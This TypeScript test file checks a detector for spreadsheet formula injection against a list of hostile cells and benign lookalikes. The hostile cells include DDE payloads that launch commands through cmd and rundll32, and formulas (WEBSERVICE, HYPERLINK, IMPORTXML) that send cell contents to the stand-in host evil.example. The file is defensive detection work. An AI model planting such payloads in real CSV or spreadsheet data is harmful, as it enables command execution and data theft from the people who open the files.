// Formulas that run or send, and cells that only begin as one.

import assert from 'node:assert/strict';
import { test } from 'node:test';
import { subjectOf } from '../../../test/waf-asking.ts';
import { detectFormula } from './code-formula.ts';

const bad = [
  "=cmd|'/C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "name,phone\n=rundll32|'URL.dll,OpenURL x'!A,1",
  '=WEBSERVICE("http://evil.example/"&A1)',
  '=HYPERLINK("http://evil.example/?x="&A1,"more")',
  '=IMPORTXML(CONCAT("http://evil.example/?", A1), "//a")',
];
for (const value of bad)
  test(`${value} is one`, () => assert.equal(detectFormula(subjectOf(value, 'x', false))?.id, 1048025));

const good = [
  '=SUM(A1:A3)',
  '=HYPERLINK("https://example.com","more")',
  '+49 30 1234',
  "a|'b'!",
  "- it's a|'b'",
  '-5 | 6',
  '@ann (me)',
  '= x',
];
for (const value of good)
  test(`${value} is none`, () => assert.equal(detectFormula(subjectOf(value, 'x', false)), null));
